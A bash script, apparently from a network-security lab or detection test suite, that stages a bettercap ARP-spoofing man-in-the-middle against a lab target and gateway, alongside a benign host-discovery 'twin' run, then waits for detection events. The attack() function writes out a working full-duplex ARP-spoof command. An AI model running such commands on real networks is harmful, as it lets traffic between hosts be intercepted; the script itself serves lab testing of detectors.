#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# bettercap poisons one target and the gateway; the kernel forwards.
# Twin: bettercap's host discovery, which asks the whole segment but takes nobody's place.
set -u
# shellcheck source-path=SCRIPTDIR source=site.sh
. "$(dirname "$0")/site.sh"

bettercap_do() { # HOST COMMANDS
	site_console "$1" "$LAB_DIR/tool.log" bettercap -no-colors -no-history \
		-iface eth0 -gateway-override 10.211.3.1 -eval "$2"
}

life() {
	site_web core 192.0.2.80
	site_life o1 http://192.0.2.80/file p1 http://192.0.2.80/file
}

twin() {
	life
	bettercap_do q1 "net.recon on; net.probe on"
	sleep 6
}

attack() {
	life
	lab_in q1 ping -q -c 1 10.211.3.1 >/dev/null
	lab_in q1 ping -q -c 1 10.211.3.31 >/dev/null
	bettercap_do q1 "net.probe on; set arp.spoof.targets 10.211.3.31; set arp.spoof.fullduplex true; arp.spoof on"
	site_await 15 spoof.arp relay.forward
}

site_run bettercap_arp mesa span bettercap
